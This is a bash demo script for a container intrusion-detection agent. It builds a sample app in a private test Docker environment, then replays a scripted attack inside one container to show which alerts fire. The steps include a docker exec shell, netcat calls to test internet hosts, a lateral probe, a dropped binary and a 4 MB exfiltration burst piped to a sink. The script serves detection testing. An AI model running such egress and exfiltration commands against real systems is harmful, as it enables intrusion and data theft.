#!/usr/bin/env bash
# The demo: a small app on the private test daemon, the agent learning it for a short window, then
# a scripted attack story against it, each step printed with what it does, the alert to expect and
# the alerts that arrived. Needs root (the private dockerd, the test "internet" namespace).
#
#   npm run demo [-- [--listen HOST:PORT] [--no-wait]]
#
# The app: web (frontend) calls api:8080 (frontend + backend) which calls db:5432 (backend) about
# once a second; db also serves an admin page on 8081 that nothing uses. Every loop is bounded:
# 1800 rounds, about 30 minutes. The story's traffic goes only to the test host (203.0.113.10 and
# .20 in the sw-inet namespace) and between the demo's containers (198.18.0.0/15).
#
# Ctrl-C (at any point) tears down what the demo made: the agent, the demo's containers, networks
# and exfiltration sink, and the private test environment itself only when the demo started it
# (when it was already up, integration tests may be using it: it is left up, as it was found).
set -euo pipefail
cd "$(dirname "$0")/.."

listen=127.0.0.1:9477
wait_at_end=1
while (($#)); do
  case $1 in
    --listen) listen=$2; shift 2 ;;
    --no-wait) wait_at_end=0; shift ;;   # end after the story (for testing the demo itself)
    *) echo "usage: $0 [--listen HOST:PORT] [--no-wait]" >&2; exit 2 ;;
  esac
done
url=http://$listen
LEARN_S=25
STATE=.state/demo
SINK_IP=203.0.113.20
SINK_PORT=8443
NAMES=(demo-web demo-api demo-db)
NETWORKS=(demo_frontend demo_backend)

bold() { if [[ -t 1 ]]; then printf '\033[1m%s\033[0m\n' "$*"; else printf '%s\n' "$*"; fi; }
phase() { echo; bold "== $*"; }
note() { printf '   %s\n' "$*"; }
watch() { node scripts/demo-watch.mjs "$1" "$url" "${@:2}"; }

started_env=0
quarantine_existed=1
agent_pid=
session_pid=
sink_pid=
cleanup() {
  local status=$?
  trap - INT TERM EXIT
  set +e # tear down as much as there is, whatever is already gone
  echo
  bold "== tearing down"
  [[ -n $session_pid ]] && kill "$session_pid" 2>/dev/null
  exec 3>&-
  if [[ -n $agent_pid ]] && kill -0 "$agent_pid" 2>/dev/null; then
    note "stopping the agent (pid $agent_pid)"
    kill -TERM "$agent_pid" 2>/dev/null || true
    wait "$agent_pid" 2>/dev/null || true
  fi
  [[ -n $sink_pid ]] && kill "$sink_pid" 2>/dev/null && wait "$sink_pid" 2>/dev/null
  if bash scripts/testenv.sh status 2>/dev/null; then
    note "removing ${NAMES[*]} and ${NETWORKS[*]}"
    docker rm -f "${NAMES[@]}" >/dev/null 2>&1
    docker network rm "${NETWORKS[@]}" >/dev/null 2>&1
    ((quarantine_existed)) || docker network rm shipwatch-quarantine >/dev/null 2>&1
  fi
  if ((started_env)); then
    note "stopping the private test environment the demo started"
    bash scripts/testenv.sh down
  else
    note "the private test environment was up before the demo: left up (scripts/testenv.sh down stops it)"
  fi
  note "agent log and state: $STATE/"
  exit "$status"
}
trap cleanup EXIT
trap 'exit 130' INT
trap 'exit 143' TERM

phase "1/4 setting up (Debian packages, npm dependencies, private dockerd, sample app)"
bash scripts/setup.sh --demo
bash scripts/build.sh --if-stale
bash scripts/testenv.sh status 2>/dev/null || started_env=1
eval "$(bash scripts/testenv.sh up | sed 's/^/export /')"
note "private Docker engine: $DOCKER_HOST (networks in 198.18.0.0/15)"
note "test internet host: 203.0.113.10, 203.0.113.20 (network namespace sw-inet)"
docker network inspect shipwatch-quarantine >/dev/null 2>&1 || quarantine_existed=0
image=$SHIPWATCH_TEST_IMAGE
docker rm -f "${NAMES[@]}" >/dev/null 2>&1 || true
docker network rm "${NETWORKS[@]}" >/dev/null 2>&1 || true
docker network create --label shipwatch.zone=dmz demo_frontend >/dev/null
docker network create --label shipwatch.zone=internal demo_backend >/dev/null

start() { # name, networks..., -- command
  local name=$1; shift
  local nets=()
  while [[ $1 != -- ]]; do nets+=("$1"); shift; done
  shift
  docker create --pull=never --name "$name" --network "${nets[0]}" --network-alias "${name#demo-}" \
    --label com.docker.compose.project=demo --label "com.docker.compose.service=${name#demo-}" \
    "$image" sh -c "$*" >/dev/null
  for net in "${nets[@]:1}"; do docker network connect --alias "${name#demo-}" "$net" "$name"; done
  docker start "$name" >/dev/null
  note "started $name on ${nets[*]}"
}
# Bounded loops: 1800 rounds, about one a second (nc -w 1 caps each round), ~30 minutes.
start demo-db demo_backend -- \
  'mkdir -p /www && echo admin > /www/index.html && httpd -p 8081 -h /www; i=0; while [ $i -lt 1800 ]; do echo ok | nc -l -p 5432 >/dev/null; i=$((i+1)); done'
start demo-api demo_frontend demo_backend -- \
  'mkdir -p /www && echo ok > /www/index.html && httpd -p 8080 -h /www; i=0; while [ $i -lt 1800 ]; do echo q | nc -w 1 db 5432 >/dev/null; date >> /var/log/api.log; i=$((i+1)); sleep 1; done'
start demo-web demo_frontend -- \
  'i=0; while [ $i -lt 1800 ]; do printf "GET / HTTP/1.0\r\n\r\n" | nc -w 1 api 8080 >/dev/null; echo hit >> /tmp/web.log; i=$((i+1)); sleep 1; done'

# The exfiltration step needs a receiver that reads what it is sent (the test host's listeners
# answer one line and close): a discard server inside the test namespace, for 30 minutes at most.
ip netns exec sw-inet node -e '
  const server = require("node:net").createServer((s) => { let n = 0; s.on("data", (d) => (n += d.length)); s.on("error", () => {}); s.on("end", () => console.log(`sink: received ${n} bytes`)); });
  server.listen(Number(process.argv[2]), process.argv[1]);
  setTimeout(() => process.exit(0), 30 * 60_000).unref();
  process.on("SIGTERM", () => process.exit(0));' "$SINK_IP" "$SINK_PORT" >/dev/null 2>&1 &
sink_pid=$!

phase "2/4 starting the agent, learning for ${LEARN_S} s"
rm -rf "$STATE" && mkdir -p "$STATE"
# The sample app is made of busybox nc (web and api are HTTP clients, db a netcat listener): for
# these workloads nc is known-good, as a SOC would decide; nc anywhere else still alerts. Stats
# every second, so a burst shows within seconds.
cat >"$STATE/shipwatch.yaml" <<EOF
learn: ${LEARN_S}s
stats_interval: 1s
suppressions:
  - { workload: demo/web, rule: suspicious_process, match: "network_tool:nc", reason: "HTTP client" }
  - { workload: demo/api, rule: suspicious_process, match: "network_tool:nc", reason: "HTTP client" }
  - { workload: demo/db, rule: suspicious_process, match: "network_tool:nc", reason: "the sample db is nc -l" }
EOF
agent_started=$(date +%s%3N)
# In a session of its own, so Ctrl-C reaches only this script: the agent then gets one SIGTERM
# from the teardown and shuts down cleanly (a second signal would make it exit at once).
setsid node bin/shipwatch.js run --config "$STATE/shipwatch.yaml" --docker-host "$DOCKER_HOST" \
  --state-dir "$STATE" --listen "$listen" >"$STATE/agent.log" 2>&1 &
agent_pid=$!
if ! watch ready 30; then tail -5 "$STATE/agent.log" >&2; exit 1; fi
note "agent pid $agent_pid, log $STATE/agent.log"
bold "   live page: $url/   (alerts, containers, an Isolate button)"
note "what the agent flagged at start, from how the containers and the daemon are configured:"
watch alerts "$agent_started" risky_container_config,insecure_daemon_config demo-api 5 || true
note "learning what web, api and db normally do (peers, ports, processes, files, resources)..."
watch learned $((LEARN_S + 20)) "${NAMES[@]}"

phase "3/4 the attack story (each step: what it does, the alert to expect, the alerts that arrived)"
# One docker exec session into api for the whole story, the way an intruder's shell would be,
# opened by the first step: the commands of every step are typed into it through a FIFO.
open_session() {
  local fifo
  fifo=$(mktemp -u)
  mkfifo "$fifo"
  : >"$STATE/session.log"
  docker exec -i demo-api sh <"$fifo" >"$STATE/session.log" 2>&1 &
  session_pid=$!
  exec 3>"$fifo"
  rm -f "$fifo"
}
n=0
step() { # title, expected rules (comma-separated), explanation, shell commands run in the session
  local title=$1 rules=$2 why=$3 commands=$4 since
  n=$((n + 1))
  echo
  bold "-- step $n: $title"
  note "$why"
  note "runs in api: $commands"
  note "expect: ${rules//,/, }"
  # A person reads at their pace; a script (no terminal) gets a short pause.
  if [[ -t 0 ]]; then read -r -p "   press Enter to run it " _; else sleep 2; fi
  since=$(date +%s%3N)
  [[ -n $session_pid ]] || open_session
  local offset
  offset=$(stat -c %s "$STATE/session.log")
  printf '%s; echo __done_%s__\n' "$commands" "$n" >&3
  for _ in $(seq 1 300); do grep -q "__done_${n}__" "$STATE/session.log" && break; sleep 0.1; done
  tail -c +$((offset + 1)) "$STATE/session.log" | grep -v '^__done_' | head -3 | sed 's/^/   output: /' || true
  note "alerts:"
  watch alerts "$since" "$rules" demo-api 10 || true
}
step "a shell in a container, via docker exec" interactive_exec,suspicious_process \
  "someone opens a shell in api with docker exec; the next steps are typed into that shell" \
  "id"
step "a new egress: api calls a host on the internet" unexpected_egress \
  "api never talked to anything outside during learning; now it reaches 203.0.113.10:4444" \
  "echo hello | nc -w 2 203.0.113.10 4444"
step "a lateral move: api reaches db's admin port" new_peer \
  "api only ever called db on 5432; now it opens db's admin page on 8081" \
  "printf 'GET / HTTP/1.0\r\n\r\n' | nc -w 2 db 8081 >/dev/null"
step "a dropped binary is run" drift_executable \
  "a program written into the container after it started is executed (busybox copied as /tmp/sleep, run by path)" \
  "cp /bin/busybox /tmp/sleep && /tmp/sleep 1"
step "an exfiltration burst: 4 MB to the internet" unexpected_egress,resource_anomaly \
  "api sends 4 x 1 MB, a second apart, to $SINK_IP:$SINK_PORT: a new destination, and a transmit rate far above api's own" \
  "i=0; while [ \$i -lt 4 ]; do head -c 1000000 /dev/urandom | nc -w 3 $SINK_IP $SINK_PORT; i=\$((i+1)); sleep 1; done"

phase "4/4 your turn"
bold "   open $url/ : the alerts above, demo-api's state, and its Isolate button"
note "or isolate from here: node bin/shipwatch.js isolate demo-api --listen $listen --reason demo"
note "then: DOCKER_HOST=$DOCKER_HOST docker exec demo-api nc -w 2 db 5432"
note "      (fails: api is cut off; node bin/shipwatch.js release demo-api --listen $listen puts it back)"
note "every alert as JSON: curl -s $url/api/alerts | jq ."
if ((wait_at_end)); then
  note "Ctrl-C stops the agent and removes the demo"
  wait "$agent_pid" || true
fi
